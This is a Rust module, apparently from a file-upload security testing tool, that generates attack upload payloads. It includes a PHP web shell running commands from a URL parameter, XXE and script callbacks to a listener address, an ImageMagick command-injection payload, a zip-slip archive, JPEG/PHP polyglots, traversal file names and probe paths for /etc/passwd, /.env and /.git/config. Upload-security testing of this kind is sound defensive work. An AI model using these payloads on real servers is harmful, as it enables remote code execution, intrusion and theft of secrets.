//! What an attacker uploads so that a server may run it, or a browser may, or a parser may dial.

use std::net::SocketAddr;

/// Something to upload.
pub(super) struct Shell {
    /// What it is called on the attacker's device.
    pub name: &'static str,
    /// Its bytes.
    pub bytes: Vec<u8>,
    /// Whether it is a picture all the same.
    pub picture: bool,
}

/// Names that have led out of folders, or into a program's hands.
pub(super) const NAMES: [&str; 10] = [
    "shell.php",
    "../../../../gate/shell.php",
    "..\\..\\desk\\shell.aspx",
    "/etc/cron.d/sekisho",
    "%2e%2e%2f%2e%2e%2fshell.jsp",
    "photo.jpg;.php",
    "photo.php%00.jpg",
    ".htaccess",
    "index.html",
    "<script>document.title=1</script>.jpg",
];

/// Everything, each with `mark` in it; `picture` is one that is taken, `dial` where somebody listens.
pub(super) fn all(picture: &[u8], mark: &str, dial: SocketAddr) -> Vec<Shell> {
    let php = format!("<?php /* {mark} */ system($_GET['cmd']); ?>");
    let html = format!("<!doctype html><script>/* {mark} */ fetch('http://{dial}/')</script>");
    let svg = format!(
        "<?xml version=\"1.0\"?><!DOCTYPE svg [<!ENTITY x SYSTEM \"http://{dial}/\">]>\
         <svg xmlns=\"http://www.w3.org/2000/svg\"><script>/* {mark} */</script>\
         <image href=\"http://{dial}/\"/><text>&x;</text></svg>"
    );
    let elf = [b"\x7fELF\x02\x01\x01".as_slice(), &[0; 57], mark.as_bytes()].concat();
    let zip = [b"PK\x03\x04".as_slice(), &[0; 26], b"../../shell.php", mark.as_bytes()].concat();
    let mvg = format!("push graphic-context\nviewbox 0 0 9 9\nfill 'url(http://{dial}/\"|id; echo {mark}\")'\npop");
    let plain = [php.as_bytes(), html.as_bytes(), svg.as_bytes(), &elf, &zip, mvg.as_bytes()];
    let plain = plain.into_iter().map(|bytes| (bytes.to_vec(), false));
    let tails = [php.as_bytes(), html.as_bytes()];
    let polyglots = tails.into_iter().flat_map(|tail| [commented(picture, tail), [picture, tail].concat()]);
    let all = plain.chain(polyglots.map(|bytes| (bytes, true)));
    all.zip(NAMES).map(|((bytes, picture), name)| Shell { name, bytes, picture }).collect()
}

/// A JPEG with a comment right behind its beginning: a picture for who draws it, a script for who runs it.
fn commented(jpeg: &[u8], comment: &[u8]) -> Vec<u8> {
    let length = u16::try_from(comment.len() + 2).unwrap_or(u16::MAX).to_be_bytes();
    [&jpeg[..2], b"\xff\xfe", &length, comment, &jpeg[2..]].concat()
}

/// Paths at which a file of this name could be served, or one from outside of every folder.
pub(super) fn paths(name: &str) -> Vec<String> {
    let folders =
        ["", "gate/", "desk/", "blobs/", "data/gate/", "uploads/", "assets/", "static/", "check/photo/", "m/"];
    let mut paths: Vec<_> = folders.iter().map(|folder| format!("/{folder}{name}")).collect();
    let ups = ["..", "%2e%2e", "..%2f..", "%252e%252e", "..;", "..%5c..", "....//.."];
    paths.extend(ups.iter().map(|up| format!("/assets/{up}/{up}/gate/{name}")));
    paths.extend(ups.iter().map(|up| format!("/{up}/{up}/{up}/{up}/{up}/etc/passwd")));
    paths.extend(["//etc/passwd", "/cgi-bin/sh?id", "/.env", "/.git/config", "/server-status"].map(String::from));
    paths.push(format!("/{name}?cmd=id"));
    paths.push(format!("/{name}/.jpg"));
    paths
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::demo::Picture;

    /// The control of the drill rests on it: what is a picture and a script is taken for a picture.
    #[test]
    fn every_shell_bears_the_mark_and_the_polyglots_are_pictures() {
        let (picture, dial) = (Picture::specimen(), "127.0.0.1:9".parse().unwrap());
        let shells = all(&picture.bytes, "mark-of-a-drill", dial);
        assert_eq!(shells.iter().filter(|shell| shell.picture).count(), 4);
        for Shell { bytes, .. } in &shells {
            assert!(memchr::memmem::find(bytes, b"mark-of-a-drill").is_some());
        }
    }
}
